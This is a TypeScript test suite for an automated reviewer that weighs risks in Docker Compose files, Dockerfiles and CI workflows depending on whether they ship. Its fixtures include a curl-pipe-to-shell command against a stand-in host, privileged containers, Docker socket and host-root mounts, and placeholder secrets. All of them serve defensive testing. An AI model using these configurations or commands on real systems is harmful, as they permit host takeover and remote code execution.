/** What a pull request gains by calling what ships a test or an example: nothing. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { reaches } from '../../src/problem.ts';
import type { Review } from '../../src/review/review.ts';
import { type Files, reviewSides, type Sides } from '../review/sides.ts';

const ships = `services:\n  web:\n    image: example/web:1.2@sha256:${'a'.repeat(64)}\n`;
const open = `${ships}    environment:\n      API_PASSWORD: Vq7#kLp2!xZ9mR4t\n`;
const note = '# FOR TESTING ONLY, DO NOT USE IN PRODUCTION\n';

async function proposed(head: Files, base: Files, more: Partial<Sides> = {}): Promise<Review> {
  return reviewSides(head, { base, target: base, ...more });
}

function severityOf({ findings }: Review, rule = 'secret-in-env'): string | undefined {
  return findings.find((finding) => finding.rule.id === rule)?.severity;
}

describe('what a file is there for', () => {
  test('a password in a file that ships fails, and one in an example does not', async () => {
    const shipping = await proposed({ 'compose.yaml': open }, { 'compose.yaml': ships });
    assert.deepEqual([severityOf(shipping), shipping.verdict], ['high', 'fail']);
    const trying = await proposed({ 'examples/compose.yaml': open }, { 'examples/compose.yaml': ships });
    assert.deepEqual([severityOf(trying), trying.verdict], ['medium', 'pass']);
  });

  test('a database that a test makes weighs two steps less when it is published, and one that a test is laid over one', async () => {
    const db = '  db:\n    image: postgres:17.2\n    environment: { POSTGRES_PASSWORD: postgres }\n';
    const published = '    ports: ["5432:5432"]\n';
    const only =
      '# This exists _only_ for testing integrations!\n#\n# Usage: docker compose -f compose.yaml -f compose.agent.yaml up\n';
    const own = { 'tests/compose.yaml': `services:\n${db}` };
    const made = await proposed({ 'tests/compose.yaml': `services:\n${db}${published}` }, own);
    assert.deepEqual([severityOf(made, 'datastore-port-published'), made.verdict], ['low', 'pass']);
    const agent = '  agent:\n    image: example/agent:1.2\n    restart: always\n';
    const base = { 'compose.yaml': ships + db, 'compose.agent.yaml': `${only}services:\n${agent}` };
    const opening = `  db:\n${published}`;
    const laid = await proposed({ ...base, 'compose.agent.yaml': `${base['compose.agent.yaml']}${opening}` }, base);
    assert.deepEqual([severityOf(laid, 'datastore-port-published'), laid.verdict], ['medium', 'pass']);
    const called = { 'compose.yaml': ships + db, 'compose.acceptance-tests.yaml': `services:\n${agent}` };
    const tests = await proposed(
      { ...called, 'compose.acceptance-tests.yaml': `services:\n${agent}${opening}` },
      called,
    );
    assert.equal(severityOf(tests, 'datastore-port-published'), 'low');
    const unsaid = { ...base, 'compose.agent.yaml': `services:\n${agent}` };
    const claimed = { ...base, 'compose.agent.yaml': `${base['compose.agent.yaml']}${opening}` };
    const claiming = await proposed(claimed, unsaid);
    assert.deepEqual([severityOf(claiming, 'datastore-port-published'), claiming.verdict], ['high', 'fail']);
  });

  test('a comment that the change adds counts for nothing', async () => {
    const review = await proposed({ 'compose.yaml': note + open }, { 'compose.yaml': ships });
    assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
  });

  describe('one in a file that the change adds', () => {
    const added = (lines: string) => proposed({ 'compose.yaml': note + ships + lines }, { 'README.md': '' });
    const alone = (lines: string) => proposed({ 'compose.yaml': ships + lines }, { 'README.md': '' });

    test('counts for what harms only who runs it, and the finding says so', async () => {
      for (const [rule, lines] of [
        ['secret-in-env', '    environment: { API_PASSWORD: Vq7#kLp2!xZ9mR4t }\n'],
        [
          'datastore-port-published',
          '  db:\n    image: postgres:17.2\n    environment: { POSTGRES_PASSWORD: postgres }\n    restart: always\n    ports: ["5432:5432"]\n',
        ],
        [
          'open-service-published',
          '  browser:\n    image: selenium/standalone-chrome:4.27.0\n    restart: always\n    ports: ["4444:4444"]\n',
        ],
      ] as const) {
        const [before, review] = [await alone(lines), await added(lines)];
        assert.deepEqual([before.verdict, review.verdict], ['fail', 'pass'], rule);
        const told = review.findings.find((finding) => finding.rule.id === rule);
        assert.match(JSON.stringify(told?.message), /the new file shows that it is not for production/);
      }
    });

    test('counts for nothing that harms the host, was issued, or is of nobody knows whom', async () => {
      const token = `ghp_${'Mc8Vh3Js5Lp0GuEaOiZq7Xw2Kd9Rf4Tb6Yn1'}`;
      for (const [rule, lines] of [
        ['privileged-container', '    privileged: true\n'],
        ['docker-socket-mount', '    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n'],
        ['host-root-mount', '    volumes: ["/:/host"]\n'],
        ['secret-literal', `    environment: { T: ${token} }\n`],
        ['pipe-to-shell', '    command: sh -c "curl -s http://a.example.com/x | sh"\n'],
        ['image-mutable-tag', '  other:\n    image: unknown/other:latest\n'],
      ] as const) {
        const [before, review] = [await alone(lines), await added(lines)];
        assert.notEqual(severityOf(before, rule), undefined, rule);
        assert.deepEqual(severityOf(review, rule), severityOf(before, rule), rule);
      }
    });

    test('counts for nothing where the file came from elsewhere', async () => {
      const review = await proposed({ 'demo/compose.yaml': note + open }, { 'compose.yaml': ships });
      assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
    });
  });

  test('one that a README starts only to develop is for that, and not since a change that has it say so', async () => {
    const said = { 'README.md': '# Shop\n\n## Local development\n\n`docker compose up`\n' };
    const silent = { 'README.md': '# Shop\n\n## Deployment\n\n`docker compose up`\n' };
    const store = `${ships}  db:\n    image: postgres:17.2\n    environment: { POSTGRES_PASSWORD: postgres }\n`;
    const published = `${store}    ports: ["5432:5432"]\n`;
    const opened = async (head: Files, base: Files) => {
      const review = await proposed(head, base);
      return [severityOf(review, 'datastore-port-published'), review.verdict];
    };
    const [then, now] = [{ 'compose.yaml': store }, { 'compose.yaml': published }];
    assert.deepEqual(await opened({ ...now, ...said }, { ...then, ...said }), ['medium', 'pass']);
    assert.deepEqual(await opened({ ...now, ...silent }, { ...then, ...silent }), ['high', 'fail']);
    assert.deepEqual(await opened({ ...now, ...said }, { ...then, ...silent }), ['high', 'fail']);
    assert.deepEqual(await opened({ ...now, ...silent }, { ...then, ...said }), ['high', 'fail']);
    const guide = (text: string) => ({ 'compose.yaml': text, 'CONTRIBUTING.md': '# Work\n\n`docker compose up`\n' });
    assert.deepEqual(await opened(guide(published), guide(store)), ['medium', 'pass']);
    const kept = (text: string) =>
      guide(
        `${text}  web2:\n    image: example/web:1\n    environment: { NODE_ENV: production }\n    restart: always\n`,
      );
    assert.deepEqual(await opened(kept(published), kept(store)), ['high', 'fail'], 'a product that is in production');
  });

  test('a debugger, and a client that trusts anyone, weigh a step less in what developers start', async () => {
    const app = '  app:\n    build: .\n';
    const debugged = `${app}    volumes: [".:/app"]\n    ports: ["8080:8080"]\n    command: flask run --host=0.0.0.0 --port=8080 --debug --reload\n`;
    const plain = `${app}    ports: ["8080:8080"]\n    command: flask run --host=0.0.0.0 --port=8080 --debug\n    restart: always\n`;
    const files = { Dockerfile: 'FROM python:3.13\nCOPY . /app\nUSER 1000\n' };
    const severities = async (path: string, services: string, rule: string) =>
      severityOf(await reviewSides({ ...files, [path]: `services:\n${services}` }, { target: {} }), rule);
    assert.equal(await severities('compose.yaml', debugged, 'debug-features-enabled'), 'medium');
    assert.equal(await severities('compose.yaml', plain, 'debug-features-enabled'), 'high');
    const signing = `${app}    environment: { JWT_SECRET: changeme }\n    ports: ["3000:3000"]\n`;
    assert.equal(await severities('compose.dev.yaml', signing, 'secret-in-env'), 'low', 'nobody else logs in');
    assert.equal(await severities('compose.prod.yaml', signing, 'secret-in-env'), 'high');
    const trusting = `${app}    environment: { NODE_TLS_REJECT_UNAUTHORIZED: "0" }\n`;
    assert.equal(await severities('compose.dev.yaml', trusting, 'tls-verification-disabled'), 'medium');
    assert.equal(await severities('compose.yaml', trusting, 'tls-verification-disabled'), 'high');
  });

  test('an image that starts what follows their changes is theirs, where they alone build it', async () => {
    const dockerfile = (command: string) => ({ 'frontend/Dockerfile': `FROM node:24\nCOPY . /app\nCMD ${command}\n` });
    const theirs = '  web:\n    build: frontend\n    volumes: ["./frontend:/app"]\n    ports: ["3000:3000"]\n';
    const weight = async (files: Files) =>
      severityOf(await reviewSides(files, { base: files, target: files }), 'missing-user');
    const compose = (services: string) => ({ 'compose.yaml': `services:\n${services}` });
    for (const command of ['["pnpm", "run", "dev"]', 'npm run dev -- --host'])
      assert.equal(await weight({ ...dockerfile(command), ...compose(theirs) }), 'low', command);
    const dev = '["npm", "run", "dev"]';
    const other = { 'deploy/compose.yaml': 'services:\n  web:\n    build: ../frontend\n    restart: always\n' };
    const pushed = {
      '.github/workflows/image.yml':
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: docker/build-push-action@v6\n        with: { context: frontend, push: true, tags: acme/web:1 }\n',
    };
    for (const [why, files] of [
      ['another command', { ...dockerfile('["node", "a.js"]'), ...compose(theirs) }],
      ['nobody builds it', dockerfile(dev)],
      ['another file', { ...dockerfile(dev), ...compose(theirs), ...other }],
      ['a workflow', { ...dockerfile(dev), ...compose(theirs), ...pushed }],
    ] as const)
      assert.equal(await weight(files), 'medium', why);
  });

  test('one that extends services of tests is one of tests, and not since the change that has it do so', async () => {
    const common = { 'lib/testenv-common/compose.yaml': 'services:\n  db:\n    image: example/db:1\n' };
    const extending = '  db:\n    extends:\n      file: ../testenv-common/compose.yaml\n      service: db\n';
    const path = 'lib/core/compose.yaml';
    const kept = await proposed({ ...common, [path]: open + extending }, { ...common, [path]: ships + extending });
    assert.deepEqual([severityOf(kept), kept.verdict], ['medium', 'pass']);
    const since = await proposed({ ...common, [path]: open + extending }, { ...common, [path]: ships });
    assert.deepEqual([severityOf(since), since.verdict], ['high', 'fail']);
  });

  test('one for tests is new where another of its name goes on shipping', async () => {
    const moved = await proposed({ 'testing/compose.yaml': open }, { 'compose.yaml': ships });
    assert.deepEqual([severityOf(moved), moved.verdict], ['high', 'fail']);
    const parted = { 'testing/compose.yaml': open, 'production/compose.yaml': `# Of version 2.\n${ships}` };
    const beside = await proposed(parted, { 'compose.yaml': `# Of version 1.\n${ships}` });
    assert.deepEqual([severityOf(beside), beside.verdict], ['medium', 'pass']);
  });

  test('one that was there does, and no longer once the change removes it', async () => {
    for (const said of [note, '# Compose file of the shop. It is not designed to be used\n# in production.\n']) {
      const kept = await proposed({ 'compose.yaml': said + open }, { 'compose.yaml': said + ships });
      assert.deepEqual([severityOf(kept), kept.verdict], ['medium', 'pass']);
    }
    const removed = await proposed({ 'compose.yaml': open }, { 'compose.yaml': note + open });
    assert.deepEqual([severityOf(removed), removed.verdict], ['high', 'fail']);
  });

  test('a file that the change moves into an example weighs as where it was', async () => {
    const moved: Partial<Sides> = { renamed: { 'demo/compose.yaml': 'compose.yaml' } };
    const review = await proposed({ 'demo/compose.yaml': open }, { 'compose.yaml': ships }, moved);
    assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
    const unseen = await proposed({ 'demo/compose.yaml': open }, { 'compose.yaml': ships });
    assert.deepEqual([severityOf(unseen), unseen.verdict], ['high', 'fail'], 'also where nobody sees the move');
  });

  test('and one that leaves an example weighs as where it goes', async () => {
    const moved: Partial<Sides> = { renamed: { 'compose.yaml': 'demo/compose.yaml' } };
    const review = await proposed({ 'compose.yaml': open }, { 'demo/compose.yaml': open }, moved);
    assert.deepEqual([severityOf(review), review.verdict], ['high', 'fail']);
  });

  test('what people start ships, wherever its parts lie', async () => {
    const dockerfile = 'FROM debian:12.5\nENV API_PASSWORD=Vq7#kLp2!xZ9mR4t\nUSER 1000\n';
    const alone = await proposed({ 'demo/Dockerfile': dockerfile }, {});
    assert.equal(severityOf(alone), 'medium');
    const built = await proposed(
      { 'demo/Dockerfile': dockerfile, 'compose.yaml': 'services:\n  web:\n    build: demo\n' },
      {},
    );
    assert.equal(severityOf(built), 'high');
    const included = await proposed(
      { 'demo/part.yaml': open, 'compose.yaml': `include: [demo/part.yaml]\n${ships}` },
      {},
    );
    assert.equal(severityOf(included), 'high');
    const ofTests = await proposed(
      { 'demo/Dockerfile': dockerfile, 'compose.yaml': 'services:\n  e2e:\n    build: demo\n' },
      {},
    );
    assert.equal(severityOf(ofTests), 'medium', 'unless it is called one of tests itself');
  });

  const job = (steps: string) => `on: push\njobs:\n  image:\n    runs-on: ubuntu-latest\n    steps:\n${steps}`;
  const action = (push: string) =>
    `      - uses: docker/build-push-action@v6\n        with: { context: demo, push: ${push} }\n`;
  for (const [what, workflow, severity] of [
    ['an action pushes it', job(action('true')), 'high'],
    ['an expression decides whether it is pushed', job(action("${{ github.ref == 'refs/heads/main' }}")), 'high'],
    ['a script pushes it', job('      - run: docker build -t a/b demo && docker push a/b\n'), 'high'],
    [
      'a matrix may name it',
      job(action('true').replace('demo', '"${{ matrix.image }}/"')).replace(
        '    steps',
        '    strategy: { matrix: { image: [demo, docs] } }\n    steps',
      ),
      'high',
    ],
    ['it is only built', job(action('false')), 'medium'],
    ['another is pushed', job(action('true').replace('demo', 'app')), 'medium'],
  ] as const) {
    test(`an example that CI publishes ships: ${what}`, async () => {
      const dockerfile = 'FROM debian:12.5\nUSER 1000\n';
      const path = '.github/workflows/image.yml';
      const review = await proposed(
        { [path]: workflow, 'demo/Dockerfile': `${dockerfile}ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t\n` },
        { [path]: workflow, 'demo/Dockerfile': dockerfile },
      );
      assert.equal(severityOf(review), severity);
    });
  }

  test('what a workflow of images for tests publishes is for them, unless the change calls it so', async () => {
    const dockerfile = 'FROM debian:12.5\nUSER 1000\n';
    const pushing = job(action('true').replace('demo', 'e2e-tests/shell'));
    const weighs = async (path: string, before = path) =>
      severityOf(
        await proposed(
          { [path]: pushing, 'e2e-tests/shell/Dockerfile': `${dockerfile}ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t\n` },
          { [before]: pushing, 'e2e-tests/shell/Dockerfile': dockerfile },
        ),
      );
    for (const name of ['build-test-containers', 'publish-e2e-images', 'test-image'])
      assert.equal(await weighs(`.github/workflows/${name}.yml`), 'medium', name);
    for (const name of ['ci', 'test', 'build-and-test-images', 'test-and-publish', 'images', 'ci-images'])
      assert.equal(await weighs(`.github/workflows/${name}.yml`), 'high', name);
    assert.equal(await weighs('.github/workflows/test-images.yml', '.github/workflows/images.yml'), 'high');
  });

  test('what a file for tests and one that ships both give to containers weighs as in the one that ships', async () => {
    const mounting = `${ships}    volumes: ["./app.conf:/app.conf:ro"]\n`;
    const secret = { 'app.conf': 'password = Vq7#kLp2!xZ9mR4t\n' };
    const alone = await proposed({ 'compose-ci.yaml': mounting, ...secret }, {});
    assert.equal(severityOf(alone, 'env-file-secret'), 'medium');
    const both = await proposed({ 'compose-ci.yaml': mounting, 'compose-web.yaml': mounting, ...secret }, {});
    assert.equal(severityOf(both, 'env-file-secret'), 'high');
    const reading = `${ships}    env_file: ../app.env\n`;
    const env = { 'app.env': 'DB_PASSWORD=Vq7kLp2xZ9mR4t\n' };
    const read = await proposed({ 'dev-postgres/compose.yaml': reading, 'run/compose.yaml': reading, ...env }, {});
    assert.equal(severityOf(read, 'env-file-secret'), 'high');
  });

  test('an expression that may make any name publishes no file', async () => {
    const path = '.github/workflows/image.yml';
    const workflow = job('      - run: docker push "${{ env.NAME }}-${{ env.TAG }}"\n');
    const compose = 'docker-compose-demo.yaml';
    const review = await proposed({ [path]: workflow, [compose]: open }, { [path]: workflow, [compose]: ships });
    assert.equal(severityOf(review), 'medium');
  });

  test('a change that takes it out of what CI publishes gains nothing by that', async () => {
    const dockerfile = 'FROM debian:12.5\nUSER 1000\n';
    const path = '.github/workflows/image.yml';
    const review = await proposed(
      { [path]: job(action('false')), 'demo/Dockerfile': `${dockerfile}ENV API_PASSWORD=Vq7#kLp2!xZ9mR4t\n` },
      { [path]: job(action('true')), 'demo/Dockerfile': dockerfile },
    );
    assert.equal(severityOf(review), 'high');
  });

  test('what harms the host fails in tests as well', async () => {
    const review = await proposed({ 'tests/compose.yaml': `${ships}    privileged: true\n` }, { 'README.md': '' });
    assert.deepEqual([severityOf(review, 'privileged-container'), review.verdict], ['high', 'fail']);
  });

  test('a token that somebody issued weighs the same', async () => {
    const token = `ghp_${'Mc8Vh3Js5Lp0GuEaOiZq7Xw2Kd9Rf4Tb6Yn1'}`;
    const review = await proposed(
      { 'tests/compose.yaml': `${ships}    environment: { T: ${token} }\n` },
      { 'README.md': '' },
    );
    assert.deepEqual([severityOf(review, 'secret-literal'), review.verdict], ['critical', 'fail']);
  });

  const apart =
    (path: string, top = '') =>
    async () => {
      const review = await proposed(
        {
          [path]: `${top}${open}      OTHER_PASSWORD: yJ3wNc8bT5dQ1s\n    pid: host\n  db:\n    image: postgres\n    ports: ["5432:5432"]\n`,
        },
        { 'README.md': '' },
      );
      const worth = review.findings.filter(({ severity }) => reaches(severity, 'medium'));
      const causes = (some: typeof worth) => new Set(some.map(({ cause }) => cause)).size;
      assert.ok(causes(worth) > 1, `${causes(worth)} causes of medium and above`);
      assert.equal(causes(worth.filter(({ besideWorse }) => !besideWorse)), 1);
      assert.ok(review.findings.length > 5, 'and all of it is listed');
    };
  test('a file for tests has one comment, for the worst', apart('tests/compose.yaml'));
  test('so has a new one that says so of itself', apart('compose.yaml', '# LOCAL DEV ONLY\n'));
});

describe('an engine that is not root', () => {
  const privileged = 'services:\n  web:\n    image: example/web:1.2\n    privileged: true\n';
  const socket = (path: string) => `${privileged}    volumes: ['${path}:/var/run/docker.sock']\n`;
  const readme = '# Home\n\nThe host uses Podman instead of Docker. This allows the containers to run rootless.\n';
  const of = async (head: Files, base: Files, rule = 'privileged-container') =>
    severityOf(await proposed({ ...base, ...head }, base), rule);

  test('has no root of the host to give, where the base says so or the file shows it', async () => {
    const said = { 'README.md': readme };
    for (const [line, rule] of [
      ['privileged: true', 'privileged-container'],
      ['cap_add: [SYS_MODULE]', 'dangerous-capability'],
      ["volumes: ['/:/host']", 'host-root-mount'],
    ] as const)
      assert.equal(
        await of({ 'compose.yaml': privileged.replace('privileged: true', line) }, said, rule),
        'medium',
        rule,
      );
    for (const path of ['/run/user/1000/podman/podman.sock', '/run/user/1000/docker.sock'])
      assert.equal(await of({ 'compose.yaml': socket(path) }, {}), 'medium', path);
  });

  test('is none because a pull request says so, or the file has a socket of root’s as well', async () => {
    const only = { 'README.md': '# Home\n' };
    assert.equal(await of({ 'compose.yaml': privileged, 'README.md': readme }, only), 'high');
    assert.equal(await of({ 'compose.yaml': privileged, 'README.md': readme }, { a: '' }), 'high');
    const both = `${socket('/run/user/1000/podman/podman.sock')}  b: { image: example/b:1, volumes: ['/var/run/docker.sock:/s'] }\n`;
    for (const text of [both, socket('/run/user/0/podman/podman.sock'), socket('/run/podman/podman.sock')])
      assert.equal(await of({ 'compose.yaml': text }, only), 'high', text);
    for (const words of [
      'The images run with Podman. Nobody in them is root: they are rootless.',
      'Use Podman or Docker. The containers can run rootless.',
      'With Podman the containers do not run rootless.',
      'The containers run rootless.',
    ])
      assert.equal(await of({ 'compose.yaml': privileged }, { 'README.md': `# Home\n\n${words}\n` }), 'high', words);
  });
});
